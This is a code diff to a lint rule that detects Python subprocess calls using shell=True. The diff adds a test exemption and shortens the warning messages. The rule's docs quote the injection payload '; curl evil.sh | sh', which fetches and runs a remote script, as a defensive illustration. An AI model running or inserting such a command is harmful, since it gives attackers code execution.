@@ -20,6 +20,7 @@ export default defineRule({
     ruff: 'S602',
     fixable: true,
     fixApplicability: ['unsafe'],
+    offInTests: true,
     docs: {
       what: 'Finds `subprocess.Popen`, `run`, `call`, `check_call` and `check_output` called with `shell=True` (or a name bound to `True`). A command built at run time is reported with high severity, a fixed literal command with low severity.',
       why: 'With `shell=True` the command string is handed to `/bin/sh -c` (or `cmd.exe /c`), which interprets `;`, `|`, `&&`, `$(…)`, backticks and redirections. If any part of the string comes from a request, a file name or another program, an attacker who puts `; curl evil.sh | sh` in it runs their own commands with the privileges of the Python process. Even a fixed command today becomes injectable the day someone formats a value into it.',
@@ -41,7 +42,7 @@ export default defineRule({
     const command = call.argument(0, 'args');
     if (!command) {
       context.report(call.node, {
-        message: `\`${name}\` runs its command through a shell (\`shell=True\`); if any part of the command comes from input it can run other commands. Pass the program and its arguments as a list without \`shell=True\`.`,
+        message: `\`${name}\` runs its command through a shell: input in it can run other commands; pass a list without \`shell=True\`.`,
         confidence: 'medium',
       });
       return;
@@ -49,13 +50,13 @@ export default defineRule({
     const kind = classifyCommand(command.value, context);
     if (kind.kind === 'dynamic') {
       context.report(call.node, {
-        message: `\`${name}\` runs \`${brief(command.value)}\` through a shell (\`shell=True\`) and the command is built at run time: injection if any part comes from input, since \`;\`, \`|\` or \`$(…)\` in it start other commands. Pass a list of arguments without \`shell=True\` (\`shlex.quote\` each value if a shell is truly needed).`,
+        message: `\`${name}\` runs a run-time command through a shell (injection); pass a list without \`shell=True\`.`,
       });
       return;
     }
     if (kind.kind === 'literal-list') {
       context.report(call.node, {
-        message: `\`${name}\` is given a list with \`shell=True\`: on POSIX only the first item is run as the shell command and the others become the shell's own arguments. Drop \`shell=True\` to run the list as a program and its arguments.`,
+        message: `\`${name}\` gets a list with \`shell=True\`: only its first item is the command; drop \`shell=True\`.`,
         severity: 'low',
       });
       return;
@@ -63,8 +64,8 @@ export default defineRule({
     const split = splitCommand(kind.value);
     const blocker = 'words' in split ? fixBlocker(call, kind.direct) : split.reason;
     const message = blocker
-      ? `\`${name}\` starts a shell (\`shell=True\`) for the fixed command \`${brief(command.value)}\`; harmless while it stays fixed, but injectable as soon as a value is formatted into it. Pass the program and its arguments as a list without \`shell=True\` (not rewritten automatically: ${blocker}).`
-      : `\`${name}\` starts a shell (\`shell=True\`) for the fixed command \`${brief(command.value)}\`; harmless while it stays fixed, but injectable as soon as a value is formatted into it. Pass its words as a list without \`shell=True\`.`;
+      ? `\`${name}\` starts a shell for a fixed command, injectable once a value is added; pass a list without \`shell=True\`.`
+      : `\`${name}\` starts a shell for a fixed command, injectable once a value is added; pass a list without \`shell=True\`.`
     context.report(call.node, {
       message,
       severity: 'low',
